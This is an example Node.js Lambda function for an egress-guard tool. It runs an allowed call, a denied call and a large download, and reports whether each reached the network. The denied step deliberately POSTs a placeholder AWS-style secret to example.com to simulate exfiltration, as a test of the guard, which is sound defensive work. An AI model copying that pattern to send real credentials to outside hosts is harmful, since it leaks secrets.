// Example Lambda function (Node.js) for egress-guard: one allowed call, one denied call, one big transfer.
//
// The event says which steps to run, in order: {"steps": ["allowed", "denied", "big"]} (the default is all three).
// Each step reports what happened from the function's point of view: {step, ok: true, status, bytes} when an HTTP
// answer came back (any status: the network call went through), or {step, ok: false, error} where `error` is the
// system error code (ENOTFOUND when the guard refused the name lookup, EACCES when it
// refused the connection, ECONNREFUSED …). Nothing here knows about the guard: that is the point.
//
// Targets come from the environment so the same code runs deployed and in `npm run demo`:
//   ALLOWED_URL  a destination the policy allows  (default: the payments API of examples/policy.yaml; without a key it
//                answers 401, which still shows the call went out)
//   DENIED_URL   a destination the policy does not allow (default: https://example.com/)
//   BIG_URL      a destination with a large body, to show per-invoke bytes and budgets
//                (default: the aws-cdk-lib package tarball on registry.npmjs.org, tens of MB)

const targets = {
  allowed: process.env.ALLOWED_URL ?? 'https://api.stripe.com/v1/charges',
  denied: process.env.DENIED_URL ?? 'https://example.com/',
  big: process.env.BIG_URL ?? 'https://registry.npmjs.org/aws-cdk-lib/-/aws-cdk-lib-2.170.0.tgz',
};

async function step(name) {
  const url = targets[name];
  if (!url) return { step: name, ok: false, error: 'EUNKNOWNSTEP' };
  try {
    // The denied call carries a payload, as an exfiltration attempt would.
    const init = name === 'denied' ? { method: 'POST', body: JSON.stringify({ secret: 'AKIA-EXAMPLE' }) } : {};
    const res = await fetch(url, { ...init, signal: AbortSignal.timeout(10_000) });
    let bytes = 0;
    for await (const chunk of res.body ?? []) bytes += chunk.length; // count, never hold, the big body
    return { step: name, ok: true, status: res.status, bytes };
  } catch (e) {
    // fetch wraps the system error: TypeError('fetch failed', { cause: { code: 'ENOTFOUND' | 'EACCES' | … } })
    return { step: name, ok: false, error: e?.cause?.code ?? e?.code ?? e?.name ?? String(e) };
  }
}

export const handler = async (event) => {
  const steps = Array.isArray(event?.steps) ? event.steps : ['allowed', 'denied', 'big'];
  const results = [];
  for (const name of steps) results.push(await step(name));
  console.log(JSON.stringify({ example: 'node', results }));
  return { results };
};
